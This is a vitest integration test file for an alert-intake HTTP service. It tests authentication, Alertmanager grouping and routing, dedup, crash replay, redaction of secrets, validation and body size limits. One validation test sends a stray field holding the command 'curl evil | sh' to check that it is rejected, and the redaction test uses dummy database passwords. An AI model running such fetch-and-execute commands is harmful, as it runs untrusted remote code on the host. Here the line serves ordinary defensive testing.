import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createAlertIntake } from '../../src/intake/http-intake';
import type { AlertIntakeOptions } from '../../src/intake/http-intake';
import { DeliveryReplayer } from '../../src/intake/delivery-replayer';
import { startHttpServer } from '../../src/server/http-server';
import type { RunningServer } from '../../src/server/http-server';
import type { IncidentService } from '../../src/runtime/incident-service';
import { InboundStore } from '../../src/store/inbound-store';
import { closeOrm, openOrm } from '../../src/store/orm';
import { ControllableActors } from '../support/controllable-actors';
import { createHarness } from '../support/runtime-harness';
import type { Harness } from '../support/runtime-harness';

const KEY = 'k-9f2d7c1e5a';
const route = (options: AlertIntakeOptions) => createAlertIntake(options).route;
const CHAT = 'oc_default';

/** Actors that never finish: incidents stay where intake put them, so the test sees only what intake did. */
const actors = new ControllableActors();
let h: Harness;
let server: RunningServer;
let databaseUp = true;

beforeAll(async () => {
  h = await createHarness({ machine: () => actors.machine() });
  const inbound = new InboundStore(h.orm);
  const common = { service: h.runtime, inbound, apiKeys: ['other-key', KEY], logger: h.logger };
  server = await startHttpServer({
    port: 0,
    host: '127.0.0.1',
    logger: h.logger,
    maxBodyBytes: 64 * 1024,
    checks: { database: () => (databaseUp ? Promise.resolve() : Promise.reject(new Error('connection refused'))) },
    routes: [
      route({ ...common, chatId: CHAT }),
      route({ ...common, chatId: undefined, path: '/api/alerts-unconfigured' }),
      route({
        ...common,
        chatId: CHAT,
        routes: [{ label: 'alertname', value: 'DiskFull', chatId: 'oc_storage_team' }],
        path: '/api/alerts-routed',
      }),
    ],
  });
});
afterAll(async () => {
  await server.close();
  await h.close();
});
beforeEach(async () => {
  databaseUp = true;
  await h.orm.em.fork().getConnection().execute('truncate incidents, incident_events, inbound_events cascade');
});

function post(body: string, headers: Record<string, string> = { authorization: `Bearer ${KEY}` }, path = '/api/alerts') {
  return fetch(`http://127.0.0.1:${server.port}${path}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body });
}

async function incidentCount(): Promise<number> {
  const [row] = await h.orm.em.fork().getConnection().execute<{ n: string }[]>('select count(*) as n from incidents');
  return Number(row?.n);
}

function alertmanagerBody(alertnames = ['HighErrorRate', 'DiskFull']) {
  return JSON.stringify({
    version: '4',
    groupKey: '{}:{}',
    status: 'firing',
    receiver: 'ai-fixer',
    groupLabels: {},
    commonLabels: { env: 'prod' },
    commonAnnotations: {},
    externalURL: 'http://alertmanager:9093',
    alerts: alertnames.map((alertname, i) => ({
      status: 'firing',
      labels: { alertname, severity: i === 0 ? 'critical' : 'warning', job: 'checkout', instance: `10.0.0.${i}:9100` },
      annotations: { summary: `${alertname} on checkout` },
      startsAt: '2026-03-14T02:17:45Z',
      endsAt: '0001-01-01T00:00:00Z',
      generatorURL: 'http://prometheus/graph',
      fingerprint: `fp${i}${alertname.toLowerCase()}`,
    })),
  });
}

describe('POST /api/alerts', () => {
  it('refuses a missing, wrong or malformed key with 401 and creates nothing', async () => {
    for (const headers of [{} as Record<string, string>, { authorization: 'Bearer wrong-key' }, { authorization: KEY }, { authorization: `Basic ${KEY}` }]) {
      const response = await post(alertmanagerBody(), headers);
      expect(response.status).toBe(401);
      expect(response.headers.get('www-authenticate')).toBe('Bearer');
    }
    expect(await incidentCount()).toBe(0);
  });

  it('hands an Alertmanager group to intake as one (its alerts together) in the default chat and answers 202 with the incident', async () => {
    const response = await post(alertmanagerBody());
    expect(response.status).toBe(202);
    const { incidents } = (await response.json()) as { incidents: { id: string; state: string; severity: string }[] };
    // One notification group, one incident (grouping keeps the rest of the group on it: see alert-lifecycle tests).
    expect(incidents).toHaveLength(1);
    expect(incidents.map((i) => i.severity)).toEqual(['critical']);
    const view = await h.runtime.get(incidents[0]!.id);
    expect([view?.title, view?.chatId, view?.service, view?.fingerprint]).toEqual(['HighErrorRate', CHAT, 'checkout', 'fp0higherrorrate']);
    expect(view?.context.alert).toMatchObject({ source: 'alertmanager', instance: '10.0.0.0:9100', description: 'HighErrorRate on checkout', groupKey: '{}:{}' });
    const timeline = await h.store.timeline(incidents[0]!.id);
    expect(timeline[0]?.actor).toMatch(/^api:[0-9a-f]{8}$/);
  });

  it('routes an alert to the chat its label names, the rest to the default chat', async () => {
    const response = await post(alertmanagerBody(), undefined, '/api/alerts-routed');
    expect(response.status).toBe(202);
    const { incidents } = (await response.json()) as { incidents: { id: string }[] };
    const views = await Promise.all(incidents.map((i) => h.runtime.get(i.id)));
    expect(views.map((v) => [v?.title, v?.chatId])).toEqual([
      ['HighErrorRate', CHAT],
      ['DiskFull', 'oc_storage_team'],
    ]);
  });

  it('takes a generic JSON alert', async () => {
    const response = await post(JSON.stringify({ title: 'HTTP 503 on /pay', severity: 'high', service: 'checkout' }));
    expect(response.status).toBe(202);
    const { incidents } = (await response.json()) as { incidents: { id: string }[] };
    expect(await h.runtime.get(incidents[0]!.id)).toMatchObject({ title: 'HTTP 503 on /pay', chatId: CHAT });
  });

  it('ignores a redelivery of the same payload', async () => {
    const body = alertmanagerBody(['Flapping']);
    expect((await post(body)).status).toBe(202);
    const again = await post(body);
    expect(again.status).toBe(200);
    expect(await again.json()).toMatchObject({ duplicate: true, incidents: [] });
    expect(await incidentCount()).toBe(1);
  });

  it('counts the same payload as new again once the dedup window has passed', async () => {
    const windowed = route({
      service: h.runtime,
      inbound: new InboundStore(h.orm),
      apiKeys: [KEY],
      chatId: CHAT,
      logger: h.logger,
      dedupeWindowMs: 500,
    });
    const deliver = () => windowed.handle({ rawBody: Buffer.from(alertmanagerBody(['Repeating'])), headers: { authorization: `Bearer ${KEY}` }, url: new URL('http://x/api/alerts') });
    expect((await deliver()).status).toBe(202);
    expect((await deliver()).status).toBe(200); // within the window: a redelivery
    await new Promise((resolve) => setTimeout(resolve, 600));
    const later = await deliver();
    expect(later.status).toBe(202);
    // Taken again, and recorded as a repeat on the incident that is still open.
    expect(later.body).toMatchObject({ incidents: [{ opened: false }] });
    expect(await incidentCount()).toBe(1);
  });

  it('a payload acknowledged by an instance that died before creating its incidents is created by another, once', async () => {
    const body = Buffer.from(alertmanagerBody(['Interrupted']));
    const request = { rawBody: body, headers: { authorization: `Bearer ${KEY}` }, url: new URL('http://x/api/alerts') };
    const base = { inbound: new InboundStore(h.orm), apiKeys: [KEY], chatId: CHAT, logger: h.logger, staleClaimMs: 300, answerBudgetMs: 50 };
    // The first instance claims the payload, answers "queued", and dies: its create never returns, and
    // its connections are gone, so it heartbeats its claim no more.
    const hangs: IncidentService = {
      create: () => new Promise<never>(() => undefined),
      send: (id, event) => h.runtime.send(id, event),
      get: (id) => h.runtime.get(id),
      listOpen: (limit) => h.runtime.listOpen(limit),
    };
    const dyingOrm = await openOrm({ databaseUrl: h.db.url, poolSize: 2 });
    const dying = createAlertIntake({ ...base, inbound: new InboundStore(dyingOrm), service: hangs });
    expect(await dying.route.handle(request)).toMatchObject({ status: 202, body: { queued: true } });

    const survivor = createAlertIntake({ ...base, service: h.runtime });
    // A retry meanwhile is acknowledged, not taken twice: the payload is claimed with its content kept.
    expect(await survivor.route.handle(request)).toMatchObject({ status: 202, body: { queued: true, incidents: [] } });
    const replayer = new DeliveryReplayer({ channel: 'http', inbound: base.inbound, target: survivor, logger: h.logger, staleAfterMs: 300 });
    const pause = () => new Promise((resolve) => setTimeout(resolve, 400));
    await pause();
    expect(await replayer.sweep()).toBe(0); // its holder is alive (it heartbeats the claim), however slow
    await closeOrm(dyingOrm);
    await pause();
    expect(await replayer.sweep()).toBe(1);
    expect(await incidentCount()).toBe(1);
    expect(await replayer.sweep()).toBe(0);
    expect((await survivor.route.handle(request)).body).toMatchObject({ duplicate: true });
    expect(await incidentCount()).toBe(1);
  });

  it('takes in a storm at once and opens its incidents behind it, each alert once; close waits for every claim to be completed', async () => {
    // Creation waits at a gate until every payload is answered, so each answer is "queued" whatever the machine's speed.
    let open: () => void = () => undefined;
    const gate = new Promise<void>((resolve) => (open = resolve));
    const gated: IncidentService = {
      create: async (request) => {
        await gate;
        return h.runtime.create(request);
      },
      get: (id) => h.runtime.get(id),
      send: (id, e) => h.runtime.send(id, e),
      listOpen: (l) => h.runtime.listOpen(l),
    };
    const storm = createAlertIntake({ service: gated, inbound: new InboundStore(h.orm), apiKeys: [KEY], chatId: CHAT, logger: h.logger, concurrency: 2, answerBudgetMs: 20 });
    const deliver = (name: string) =>
      storm.route.handle({ rawBody: Buffer.from(alertmanagerBody([name])), headers: { authorization: `Bearer ${KEY}` }, url: new URL('http://x/api/alerts') });
    const answers = await Promise.all(Array.from({ length: 30 }, (_, i) => deliver(`Storm${i % 15}-${i}`)));
    expect(answers.map((a) => [a.status, (a.body as { queued?: boolean }).queued])).toEqual(Array.from({ length: 30 }, () => [202, true]));
    open();
    // A bound, not a timing: close returns as soon as every claim is completed.
    await storm.close(120_000);
    // Nothing is left for a replay: every acknowledged payload was recorded as done before close returned.
    const [unfinished] = await h.orm.em.fork().getConnection().execute<{ n: string }[]>(`select count(*) as n from inbound_events where done_at is null`);
    expect(Number(unfinished?.n)).toBe(0);
    expect(await incidentCount()).toBe(30);
  });

  it('takes a payload with a NUL in a label value (Postgres cannot store it): answered, opened, the NUL dropped', async () => {
    const body = alertmanagerBody(['NulInLabel']).replace('"job":"checkout"', '"job":"check\\u0000out"');
    expect(body).toContain('\\u0000');
    const response = await post(body);
    expect(response.status).toBe(202);
    expect(await incidentCount()).toBe(1);
    const [row] = await h.orm.em.fork().getConnection().execute<{ alert: string }[]>(`select row_to_json(i)::text as alert from incidents i`);
    expect(row?.alert).toContain('checkout');
  });

  it('redacts a payload before its claim keeps it for replay', async () => {
    const hangs: IncidentService = { create: () => new Promise<never>(() => undefined), get: (id) => h.runtime.get(id), send: (id, e) => h.runtime.send(id, e), listOpen: (l) => h.runtime.listOpen(l) };
    const queued = createAlertIntake({ service: hangs, inbound: new InboundStore(h.orm), apiKeys: [KEY], chatId: CHAT, logger: h.logger, answerBudgetMs: 10 });
    const body = JSON.stringify({ title: 'checkout cannot reach its database', description: 'dsn postgres://orders:Xk9mPq2vL7@db-1/orders password=hunter2hunter2' });
    const answer = await queued.route.handle({ rawBody: Buffer.from(body), headers: { authorization: `Bearer ${KEY}` }, url: new URL('http://x/api/alerts') });
    expect(answer.status).toBe(202);
    const [kept] = await h.orm.em.fork().getConnection().execute<{ replay: string }[]>(`select replay::text as replay from inbound_events`);
    expect(kept?.replay).toContain('checkout cannot reach its database');
    expect(kept?.replay).not.toContain('Xk9mPq2vL7');
    expect(kept?.replay).not.toContain('hunter2hunter2');
  });

  it('refuses a payload, taking nothing, while its backlog is full', async () => {
    const hangs: IncidentService = { create: () => new Promise<never>(() => undefined), get: (id) => h.runtime.get(id), send: (id, e) => h.runtime.send(id, e), listOpen: (l) => h.runtime.listOpen(l) };
    const full = createAlertIntake({ service: hangs, inbound: new InboundStore(h.orm), apiKeys: [KEY], chatId: CHAT, logger: h.logger, maxBacklog: 2, answerBudgetMs: 10 });
    const deliver = (names: string[]) =>
      full.route.handle({ rawBody: Buffer.from(alertmanagerBody(names)), headers: { authorization: `Bearer ${KEY}` }, url: new URL('http://x/api/alerts') });
    expect((await deliver(['A', 'B'])).status).toBe(202);
    expect(await deliver(['C'])).toMatchObject({ status: 503, headers: { 'retry-after': '5' } });
    const [claims] = await h.orm.em.fork().getConnection().execute<{ n: string }[]>(`select count(*) as n from inbound_events`);
    expect(Number(claims?.n)).toBe(1);
  });

  it('answers malformed input with 400 and the issues, creating nothing', async () => {
    const notJson = await post('{"alerts": [');
    expect(notJson.status).toBe(400);
    expect(await notJson.json()).toMatchObject({ issues: [{ path: '', message: 'body is not JSON' }] });

    const invalid = await post(JSON.stringify({ alerts: [{ status: 'firing', labels: { alertname: 'A' } }, { status: 'exploding', labels: {} }] }));
    expect(invalid.status).toBe(400);
    const { issues } = (await invalid.json()) as { issues: { path: string }[] };
    expect(issues.map((i) => i.path)).toContain('alerts.1.status');

    const strayField = await post(JSON.stringify({ title: 'x', run: 'curl evil | sh' }));
    expect(strayField.status).toBe(400);
    expect(await incidentCount()).toBe(0);
  });

  it('a malformed delivery does not block the valid one that follows', async () => {
    expect((await post('{"title": ')).status).toBe(400);
    expect((await post(JSON.stringify({ title: 'after a bad one' }))).status).toBe(202);
  });

  it('answers 503 with what to set when no default chat is configured', async () => {
    const response = await post(alertmanagerBody(), undefined, '/api/alerts-unconfigured');
    expect(response.status).toBe(503);
    expect(await response.json()).toEqual({ error: expect.stringContaining('LARK_DEFAULT_CHAT_ID') as unknown });
    expect(await incidentCount()).toBe(0);
  });

  it('checks the key before saying anything about the configuration', async () => {
    const response = await post(alertmanagerBody(), { authorization: 'Bearer nope' }, '/api/alerts-unconfigured');
    expect(response.status).toBe(401);
  });
});

describe('the HTTP server', () => {
  it('keeps /healthz and /readyz', async () => {
    const base = `http://127.0.0.1:${server.port}`;
    expect(await (await fetch(`${base}/healthz`)).json()).toEqual({ status: 'ok' });
    expect((await fetch(`${base}/readyz`)).status).toBe(200);
    databaseUp = false;
    const notReady = await fetch(`${base}/readyz`);
    expect(notReady.status).toBe(503);
    expect(await notReady.json()).toEqual({ status: 'not ready', database: 'connection refused' });
  });

  it('answers an unknown path with 404 and a wrong method with 405', async () => {
    const base = `http://127.0.0.1:${server.port}`;
    expect((await fetch(`${base}/nope`)).status).toBe(404);
    const wrongMethod = await fetch(`${base}/api/alerts`);
    expect(wrongMethod.status).toBe(405);
    expect(wrongMethod.headers.get('allow')).toBe('POST');
  });

  it('refuses a body over the cap with 413 before the route sees it', async () => {
    const response = await post(JSON.stringify({ title: 'x'.repeat(70 * 1024) }));
    expect(response.status).toBe(413);
    expect(await incidentCount()).toBe(0);
  });

  it('refuses an oversized body sent without a declared length', async () => {
    const chunk = new TextEncoder().encode('x'.repeat(16 * 1024));
    const stream = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let i = 0; i < 8; i++) controller.enqueue(chunk);
        controller.close();
      },
    });
    const response = await fetch(`http://127.0.0.1:${server.port}/api/alerts`, {
      method: 'POST',
      headers: { authorization: `Bearer ${KEY}` },
      body: stream,
      duplex: 'half',
    });
    expect(response.status).toBe(413);
  });
});
